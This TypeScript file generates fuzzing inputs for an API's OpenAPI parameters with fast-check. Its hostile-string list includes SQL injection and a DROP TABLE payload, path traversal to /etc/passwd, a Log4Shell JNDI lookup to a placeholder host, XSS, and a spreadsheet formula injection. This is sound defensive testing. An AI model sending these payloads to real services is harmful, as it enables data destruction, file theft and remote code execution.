import fc from 'fast-check';

/**
 * fast-check arbitraries from the JSON Schemas of the OpenAPI document: values a parameter's schema
 * accepts (realistic ones from the data first, hostile ones that still conform), and values it refuses.
 */

export type JsonSchema = Record<string, unknown>;

/** Strings an API must answer calmly: SQL and comment syntax, quotes, unicode, control-adjacent and very long. */
export const HOSTILE_STRINGS: readonly string[] = [
  "' OR '1'='1",
  "PJM' --",
  "'; DROP TABLE curve_observation; --",
  '/* comment */ SELECT 1',
  '" OR ""="',
  '\\',
  "O'Brien",
  '%27%20OR%201%3D1',
  '%00',
  '../../etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the hostile input
  '${jndi:ldap://example.invalid/a}',
  '<script>alert(1)</script>',
  '=cmd|"/c calc"!A1',
  'NaN',
  '-1',
  '1e309',
  'null',
  '[]',
  '{}',
  'WESTERN HUB',
  'Zürich–Ost',
  '东京 電力',
  'مرحبا',
  '\u202egnp.exe',
  '😀🔥⚡',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'e\u0301\u0301\u0301',
  '\u0000',
  '\t',
  'line\nbreak',
  ' ',
  'a'.repeat(129),
  'b'.repeat(256),
  'c'.repeat(1001),
  `${'x'.repeat(4000)}'--`,
];

const ISO_DATE = /^\d{4}-\d{2}-\d{2}$/;
const isRealDate = (s: string) =>
  ISO_DATE.test(s) &&
  !Number.isNaN(Date.parse(`${s}T00:00:00Z`)) &&
  new Date(`${s}T00:00:00Z`).toISOString().startsWith(s);

const regexOf = (schema: JsonSchema) =>
  typeof schema.pattern === 'string' ? new RegExp(schema.pattern, 'u') : undefined;

/**
 * The string form on the wire of a parameter documented by meaning: an integer is digits only (no sign,
 * exponent or fraction) within its bounds, a boolean is `true`/`false`; a union of strings is its first branch.
 */
export function wireSchema(schema: JsonSchema): JsonSchema {
  if (schema.type === 'integer') return { ...schema, type: 'string', pattern: '^\\d{1,9}$' };
  if (schema.type === 'boolean') return { type: 'string', enum: ['true', 'false'] };
  const union = (schema.anyOf ?? schema.oneOf) as JsonSchema[] | undefined;
  if (union && union.length > 0) return union[0]!;
  return schema;
}

/** Whether a string satisfies a string schema's keywords (the subset zod emits for parameters). */
export function conformsTo(documented: JsonSchema, value: string): boolean {
  const union = (documented.anyOf ?? documented.oneOf) as JsonSchema[] | undefined;
  if (union) return union.some((branch) => conformsTo(branch, value));
  const schema = wireSchema(documented);
  if (Array.isArray(schema.enum) && !schema.enum.includes(value)) return false;
  if (schema.const !== undefined && schema.const !== value) return false;
  const length = [...value].length;
  if (typeof schema.minLength === 'number' && length < schema.minLength) return false;
  if (typeof schema.maxLength === 'number' && length > schema.maxLength) return false;
  const pattern = regexOf(schema);
  if (pattern && !pattern.test(value)) return false;
  if (schema.format === 'date' && !isRealDate(value)) return false;
  if (
    schema.format === 'date-time' &&
    (!/^\d{4}-\d{2}-\d{2}T/.test(value) || Number.isNaN(Date.parse(value)))
  )
    return false;
  if (
    /^\^\\d\{1,\d+\}\$$/.test(String(schema.pattern ?? '')) &&
    (typeof schema.minimum === 'number' || typeof schema.maximum === 'number')
  ) {
    const n = Number(value);
    if (typeof schema.minimum === 'number' && n < schema.minimum) return false;
    if (typeof schema.maximum === 'number' && n > schema.maximum) return false;
  }
  return true;
}

const dateArb = fc.date({
  min: new Date('2019-01-01T00:00:00Z'),
  max: new Date('2027-12-31T00:00:00Z'),
  noInvalidDate: true,
});
const isoDay = dateArb.map((d) => d.toISOString().slice(0, 10));

/** Strings the schema accepts: harvested data values first, then generated ones, then conforming hostile ones. */
export function validString(documented: JsonSchema, harvested: readonly string[] = []): fc.Arbitrary<string> {
  const schema = wireSchema(documented);
  if (Array.isArray(schema.enum)) return fc.constantFrom(...(schema.enum as string[]));
  if (typeof schema.const === 'string') return fc.constant(schema.const);
  const fits = (s: string) => conformsTo(schema, s);
  const known = harvested.filter(fits);
  let generated: fc.Arbitrary<string>;
  const digits = /^\^\\d\{1,\d+\}\$$/.test(String(schema.pattern ?? ''));
  if (digits && typeof schema.minimum === 'number' && typeof schema.maximum === 'number') {
    generated = fc.integer({ min: schema.minimum, max: schema.maximum }).map(String);
  } else if (schema.format === 'date') {
    generated = isoDay;
  } else if (schema.format === 'date-time') {
    generated = dateArb.map((d) => d.toISOString());
  } else if (schema.pattern) {
    generated = fc.stringMatching(regexOf(schema)!).filter(fits);
  } else {
    const maxLength = Math.min(40, typeof schema.maxLength === 'number' ? schema.maxLength : 40);
    const minLength = Math.min(maxLength, typeof schema.minLength === 'number' ? schema.minLength : 0);
    generated = fc.string({ minLength, maxLength, unit: 'grapheme' }).filter(fits);
  }
  const hostile = HOSTILE_STRINGS.filter(fits);
  const choices: { arbitrary: fc.Arbitrary<string>; weight: number }[] = [
    { arbitrary: generated, weight: 3 },
  ];
  if (known.length > 0) choices.push({ arbitrary: fc.constantFrom(...known), weight: 4 });
  if (hostile.length > 0) choices.push({ arbitrary: fc.constantFrom(...hostile), weight: 2 });
  return fc.oneof(...choices);
}

/**
 * Strings the schema refuses: each candidate is checked against the schema, so "invalid" is never a guess.
 * Undefined when the schema accepts any string.
 */
export function invalidString(documented: JsonSchema): fc.Arbitrary<string> | undefined {
  const schema = wireSchema(documented);
  const candidates = new Set<string>(HOSTILE_STRINGS);
  for (const s of [
    '',
    'abc',
    '0',
    '-5',
    '1.5',
    '1e3',
    '99999999999',
    '2024-02-30',
    '2024-13-01',
    '20240101',
    'yesterday',
    'ÿ',
  ])
    candidates.add(s);
  if (typeof schema.maxLength === 'number') candidates.add('z'.repeat(schema.maxLength + 1));
  if (typeof schema.maximum === 'number') candidates.add(String(schema.maximum + 1));
  if (typeof schema.minimum === 'number' && schema.minimum > 0) candidates.add(String(schema.minimum - 1));
  if (Array.isArray(schema.enum)) for (const v of schema.enum) candidates.add(`${String(v)}x`);
  const refused = [...candidates].filter((s) => !conformsTo(documented, s));
  if (refused.length === 0) return undefined;
  // Random text almost never fits a pattern, format or enum; without one of those it nearly always fits,
  // and a filter waiting for a misfit would never end.
  if (!schema.pattern && !schema.format && !Array.isArray(schema.enum)) return fc.constantFrom(...refused);
  return fc.oneof(
    { arbitrary: fc.constantFrom(...refused), weight: 3 },
    {
      arbitrary: fc.string({ maxLength: 30, unit: 'binary' }).filter((s) => !conformsTo(documented, s)),
      weight: 1,
    },
  );
}

/** A JSON value for a request body schema (objects, arrays, scalars, enums, unions); depth-bounded. */
export function jsonValue(schema: JsonSchema, depth = 0): fc.Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (Array.isArray(schema.enum)) return fc.constantFrom(...schema.enum);
  const union = (schema.anyOf ?? schema.oneOf) as JsonSchema[] | undefined;
  if (union) return fc.oneof(...union.map((s) => jsonValue(s, depth + 1)));
  const type = Array.isArray(schema.type)
    ? fc.constantFrom(...(schema.type as string[]))
    : fc.constant(schema.type as string | undefined);
  return type.chain((t): fc.Arbitrary<unknown> => {
    switch (t) {
      case 'null':
        return fc.constant(null);
      case 'boolean':
        return fc.boolean();
      case 'integer':
        return fc.integer({
          min: (schema.minimum as number) ?? -1e6,
          max: (schema.maximum as number) ?? 1e6,
        });
      case 'number':
        return fc.double({
          min: (schema.minimum as number) ?? -1e6,
          max: (schema.maximum as number) ?? 1e6,
          noNaN: true,
          noDefaultInfinity: true,
        });
      case 'string':
        return validString(schema);
      case 'array': {
        const items = (schema.items as JsonSchema | undefined) ?? {};
        return fc.array(jsonValue(items, depth + 1), {
          minLength: (schema.minItems as number) ?? 0,
          maxLength: Math.min((schema.maxItems as number) ?? 5, depth > 2 ? 1 : 5),
        });
      }
      case 'object': {
        const properties = (schema.properties ?? {}) as Record<string, JsonSchema>;
        const required = (schema.required ?? []) as string[];
        const record: Record<string, fc.Arbitrary<unknown>> = {};
        for (const [name, property] of Object.entries(properties))
          record[name] = jsonValue(property, depth + 1);
        return fc.record(record, { requiredKeys: required });
      }
      default:
        return depth > 2 ? fc.constant(null) : fc.jsonValue({ maxDepth: 2 });
    }
  });
}
